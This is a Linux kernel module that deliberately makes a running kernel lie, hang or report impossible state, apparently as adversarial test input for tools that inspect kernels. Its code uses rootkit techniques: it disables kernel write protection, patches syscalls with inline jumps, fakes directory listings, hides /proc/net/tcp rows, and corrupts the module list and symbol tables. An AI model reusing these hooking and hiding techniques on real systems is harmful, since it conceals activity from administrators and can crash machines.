// SPDX-License-Identifier: GPL-2.0
/* Attacks on whoever runs a box, one a value of `attack`: a kernel that lies, or hangs, or says impossible things. */
#include <asm/msr.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include <linux/dirent.h>
#include <linux/io.h>
#include <linux/kallsyms.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/uaccess.h>

static char *attack = "";
static char *text = "";
static unsigned long number;
module_param(attack, charp, 0);
module_param(text, charp, 0);
module_param(number, ulong, 0);

static unsigned long (*lookup)(const char *name);

static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

static void unprotect(void)
{
	unsigned long cr0 = read_cr0() & ~X86_CR0_WP;

	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

/* Let a kernel function jump to one of ours, before anything else: movabs rax, jmp rax. */
static void replace(const char *name, void *with)
{
	unsigned char jump[12] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 };
	void *at = (void *)lookup(name);

	*(unsigned long *)(jump + 2) = (unsigned long)with;
	unprotect();
	memcpy(at, jump, sizeof(jump));
}

static noinline void oops(void)
{
	*(volatile int *)0xdead000000000000UL = 1;
}

static long my_getdents64(const struct pt_regs *regs)
{
	static int turn;
	char buffer[512] = {};
	struct linux_dirent64 *entry = (void *)buffer;
	size_t size = ALIGN(offsetof(struct linux_dirent64, d_name) + strlen(text) + 1, 8);

	if (turn++ & 1)
		return 0;
	strscpy(entry->d_name, text, sizeof(buffer) - sizeof(*entry));
	entry->d_reclen = size;
	entry->d_type = 8;
	entry->d_ino = 77;
	return copy_to_user((void __user *)regs->si, buffer, size) ? -EFAULT : size;
}

static long endless_read(unsigned int fd, char __user *buffer, size_t size)
{
	return clear_user(buffer, size) ? -EFAULT : size;
}

/* A row of /proc/net/tcp with nothing in it. */
static int empty_row(void *file, void *what)
{
	((void (*)(void *, const char *))lookup("seq_puts"))(file, "\n");
	return 0;
}

static long lying_read(unsigned int fd, char __user *buffer, size_t size)
{
	return number;
}

/* A range of the kernel's addresses, 512 GiB long, every page of which is one page of memory. */
static unsigned long wide_mapping(void)
{
	unsigned long *pud = (void *)get_zeroed_page(GFP_KERNEL), *pmd = (void *)get_zeroed_page(GFP_KERNEL);
	unsigned long *pte = (void *)get_zeroed_page(GFP_KERNEL), *page = (void *)get_zeroed_page(GFP_KERNEL);
	unsigned long *top = (void *)lookup("init_top_pgt"), *current_top = __va(read_cr3_pa());
	int slot, i;

	for (i = 0; i < 512; i++) {
		pud[i] = __pa(pmd) | 0x63;
		pmd[i] = __pa(pte) | 0x63;
		pte[i] = __pa(page) | 0x63;
	}
	for (slot = 300; slot < 500 && current_top[slot]; slot++)
		;
	current_top[slot] = top[slot] = __pa(pud) | 0x63;
	return 0xffff000000000000UL | (unsigned long)slot << 39;
}

static void local_apic_timer(void)
{
	char __iomem *apic = ioremap(0xfee00000, 4096);

	local_irq_disable();
	writel(0x1ff, apic + 0xf0);
	writel(0xb, apic + 0x3e0);
	writel(0x20000 | 0xec, apic + 0x320);
	writel(1, apic + 0x380);
	for (;;)
		asm volatile("sti; hlt");
}

static int __init attacks_init(void)
{
	int error = find_lookup();

	if (error)
		return error;
	if (!strcmp(attack, "getdents"))
		replace("__x64_sys_getdents64", my_getdents64);
	else if (!strcmp(attack, "endless_read"))
		replace("ksys_read", endless_read);
	else if (!strcmp(attack, "lying_read"))
		replace("ksys_read", lying_read);
	else if (!strcmp(attack, "fsbase")) {
		current->thread.fsbase = number;
		asm volatile("wrmsr" : : "c"(MSR_FS_BASE), "a"((u32)number), "d"((u32)(number >> 32)));
	} else if (!strcmp(attack, "apic_timer"))
		local_apic_timer();
	else if (!strcmp(attack, "la57"))
		asm volatile("mov %%cr4, %%rax; or $0x1000, %%rax; mov %%rax, %%cr4; ud2" : : : "rax", "memory");
	else if (!strcmp(attack, "cr3"))
		asm volatile("mov %0, %%cr3; hlt" : : "r"(number) : "memory");
	else if (!strcmp(attack, "stopped"))
		asm volatile("cli; hlt");
	else if (!strcmp(attack, "spin"))
		for (;;)
			cpu_relax();
	else if (!strcmp(attack, "module_list")) {
		struct list_head *modules = (void *)lookup("modules");

		modules->next = &THIS_MODULE->list;
		THIS_MODULE->list.next = &THIS_MODULE->list;
		oops();
	} else if (!strcmp(attack, "task_name")) {
		strscpy(current->comm, text, sizeof(current->comm));
		pr_warn("%s\n", text);
		oops();
	} else if (!strcmp(attack, "task_id")) {
		current->pid = number;
		oops();
	} else if (!strcmp(attack, "task_list")) {
		current->tasks.next = &current->tasks;
		oops();
	} else if (!strcmp(attack, "many_paths")) {
		char path[32];
		unsigned long n;

		for (n = 0; n < number; n++) {
			snprintf(path, sizeof(path), "/tmp/%lu", n);
			filp_open(path, O_RDONLY, 0);
		}
	} else if (!strcmp(attack, "rows")) {
		replace("tcp4_seq_show", empty_row);
	} else if (!strcmp(attack, "module_name")) {
		strcpy(THIS_MODULE->name, text);
	} else if (!strcmp(attack, "symbol_count")) {
		THIS_MODULE->kallsyms->num_symtab = number;
		*(void **)&THIS_MODULE->kallsyms->symtab = (void *)wide_mapping();
		oops();
	} else if (!strcmp(attack, "symbol_count_no_table")) {
		THIS_MODULE->kallsyms->num_symtab = number;
		oops();
	} else if (!strcmp(attack, "kallsyms")) {
		char *info = *(char **)lookup("vmcoreinfo_data"), *found = strstr(info, "SYMBOL(kallsyms_offsets)=");
		unsigned long offsets = 0, count, n;
		char digits[20] = {};

		if (!found)
			return -ENOENT;
		memcpy(digits, strchr(found, '=') + 1, 16);
		if (kstrtoul(digits, 16, &offsets))
			return -EINVAL;
		found = strstr(info, "SYMBOL(kallsyms_num_syms)=");
		memcpy(digits, strchr(found, '=') + 1, 16);
		if (kstrtoul(digits, 16, &count))
			return -EINVAL;
		unprotect();
		for (n = 0; n < *(unsigned int *)count; n++)
			((int *)offsets)[n] -= 16;
	} else if (!strcmp(attack, "btf")) {
		unsigned char *start = (void *)lookup("__start_BTF");

		unprotect();
		memset(start + 24, 0xff, 4096);
		oops();
	} else if (!strcmp(attack, "wide_memset")) {
		unsigned long size = 1UL << 37;

		asm volatile("" : "+r"(size));
		memset((void *)wide_mapping(), 0, size);
	}
	return 0;
}

static void __exit attacks_exit(void)
{
}

module_init(attacks_init);
module_exit(attacks_exit);
MODULE_LICENSE("GPL");
